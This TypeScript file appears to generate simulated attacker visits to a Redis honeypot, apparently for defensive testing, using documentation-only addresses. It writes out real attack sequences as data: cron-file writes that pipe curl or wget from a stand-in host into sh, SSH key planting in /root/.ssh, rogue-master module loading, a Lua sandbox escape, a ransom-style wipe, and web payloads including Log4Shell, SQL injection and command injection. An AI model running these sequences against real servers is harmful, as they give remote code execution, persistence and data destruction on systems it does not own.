import type { Random } from '../../src/platform/random.ts';
import { seededRandom } from '../../src/platform/random.ts';
import type { Stage, Visitor } from './stage.ts';

type Deed = (visitor: Visitor, random: Random) => void;

const GAP = 60;
/** Not a key of anybody: the letters are all one. */
const SSH_KEY = `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ${'D'.repeat(330)} root@example.invalid`;
const NO_FILE = 'ERR Error loading the extension. Please check the server logs.';

const looksAround: Deed = (visitor, random) => {
  visitor.does(['INFO'], 25);
  if (random.below(3) === 0) visitor.does(['CONFIG', 'GET', 'dir'], GAP);
  if (random.below(4) === 0) visitor.does(['KEYS', '*'], GAP);
};

const writesCron: Deed = (visitor, random) => {
  const host = ['203.0.113.9', '203.0.113.9', '198.51.100.77'][random.below(3)] ?? '';
  const line = (minute: number, end: string): string =>
    `\n\n*/${minute} * * * * root curl -fsSL http://${host}/${end} | sh\n\n`;
  visitor.does(['INFO'], 30);
  visitor.does(['FLUSHALL'], GAP);
  visitor.does(['CONFIG', 'SET', 'stop-writes-on-bgsave-error', 'no'], GAP);
  visitor.does(['SET', 'backup1', line(2, 'init.sh')], GAP);
  visitor.does(['SET', 'backup2', line(3, 'init.sh').replace('curl -fsSL', 'wget -q -O-')], GAP);
  visitor.does(['SET', 'backup3', line(4, 'c/init.sh')], GAP);
  visitor.does(['CONFIG', 'SET', 'dir', '/var/spool/cron'], GAP);
  visitor.does(['CONFIG', 'SET', 'dbfilename', 'root'], GAP);
  visitor.does(['SAVE'], GAP);
};

const writesKey: Deed = (visitor, random) => {
  visitor.does(['CONFIG', 'GET', 'dir'], 45);
  visitor.does(['SET', `xx${random.hex(2)}`, `\n\n${SSH_KEY}\n\n`], GAP);
  visitor.does(['CONFIG', 'SET', 'dir', '/root/.ssh'], GAP);
  visitor.does(['CONFIG', 'SET', 'dbfilename', 'authorized_keys'], GAP);
  visitor.does(['SAVE'], GAP);
};

const bringsModule: Deed = (visitor) => {
  visitor.does(['INFO', 'server'], 20);
  visitor.does(['CONFIG', 'SET', 'dir', '/tmp'], GAP);
  visitor.does(['CONFIG', 'SET', 'dbfilename', 'exp.so'], GAP);
  visitor.does(['SLAVEOF', '203.0.113.66', '21000'], GAP);
  visitor.does(['MODULE', 'LOAD', '/tmp/exp.so'], 2_400, NO_FILE);
  visitor.does(
    ['system.exec', 'id'],
    GAP,
    "ERR unknown command 'system.exec', with args beginning with: 'id'",
  );
  visitor.does(['SLAVEOF', 'NO', 'ONE'], GAP);
};

const escapesLua: Deed = (visitor) => {
  visitor.does(['INFO', 'server'], 20);
  visitor.does(
    [
      'EVAL',
      'local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = f(); return io.popen("id", "r"):read("*a")',
      '0',
    ],
    GAP,
    "ERR Error running script: user_script:1: Script attempted to access nonexistent global variable 'package'",
  );
};

const wipes: Deed = (visitor) => {
  visitor.does(['KEYS', '*'], 300);
  visitor.does(['FLUSHALL'], 2_000);
  visitor.does(
    [
      'SET',
      'READ_ME_TO_RECOVER_YOUR_DATA',
      'All your data is backed up. Pay 0.01 BTC and write to recover@example.invalid, or it will be published.',
    ],
    700,
  );
};

const guesses: Deed = (visitor) => {
  for (const password of ['redis', '123456', 'foobared', 'admin', 'password', 'root', 'qwerty'])
    visitor.does(['AUTH', password], 110, 'WRONGPASS invalid username-password pair or user is disabled.');
};

const mistakesUs: Deed = (visitor) => {
  visitor.emit({
    type: 'wire.fault',
    fault: 'unbalanced inline request',
    looksLike: 'http',
    sample: 'GET / HTTP/1.1\r\nHost: 192.0.2.1:6379\r\nUser-Agent: Mozilla/5.0\r\n\r\n',
  });
};

const WEB: readonly string[] = [
  "/item?id=1'+union+select+1,user(),3--",
  '/search?q=<script>alert(1)</script>',
  '/index.php?page=../../../../etc/passwd',
  '/.env',
  '/?x=${jndi:ldap://203.0.113.9/a}',
  '/ping?host=127.0.0.1;wget+http://203.0.113.9/init.sh+-O-|sh',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/?name={{7*7}}',
];

/** Some come to the other door as well, from the address they use for Redis. */
function attacksWeb(stage: Stage, address: string, random: Random): void {
  const visitor = stage.visit(address, 32_768 + random.below(28_000), 'http', 'http');
  for (let count = 1 + random.below(6); count > 0; count--) {
    visitor.asks(WEB[random.below(WEB.length)] ?? '/');
  }
  visitor.leaves();
}

/** Deeds with how often they happen, of a hundred. */
const DEEDS: readonly (readonly [number, Deed])[] = [
  [52, looksAround],
  [16, writesCron],
  [8, mistakesUs],
  [7, guesses],
  [6, writesKey],
  [5, bringsModule],
  [3, escapesLua],
  [3, wipes],
];

/** Sources by deed, so that a campaign comes from addresses of its own. */
const NETWORKS = ['203.0.113.', '198.51.100.', '192.0.2.', '198.51.100.', '203.0.113.'];

/** Made-up visits from the stage's time on until `end`; all addresses are for documentation. */
export async function playVisits(stage: Stage, end: number, everyMs: number): Promise<void> {
  const random = seededRandom(11);
  const elsewhere = seededRandom(12);
  for (let count = 0; stage.clock.now() < end; count += 1) {
    const which = pick(random.below(100));
    const network = NETWORKS[which % NETWORKS.length] ?? '';
    const address = `${network}${10 + which * 12 + random.below(which === 0 ? 40 : 7)}`;
    const sensor = random.below(4) === 0 ? 'redis-2' : 'redis-1';
    const visitor = stage.visit(address, 32_768 + random.below(28_000), sensor);
    DEEDS[which]?.[1](visitor, random);
    visitor.leaves(40 + random.below(4_000));
    if (elsewhere.below(6) === 0) attacksWeb(stage, address, elsewhere);
    // More in some hours than in others, as scanners have their own nights.
    const busy = 1 + Math.sin(count / 9) * 0.7;
    const gap = everyMs * busy * (0.2 + random.below(160) / 100);
    stage.clock.advance(Math.max(0, Math.min(gap, end - stage.clock.now())));
  }
  await stage.journal.flush();
}

function pick(ball: number): number {
  let sum = 0;
  return DEEDS.findIndex(([share]) => {
    sum += share;
    return ball < sum;
  });
}
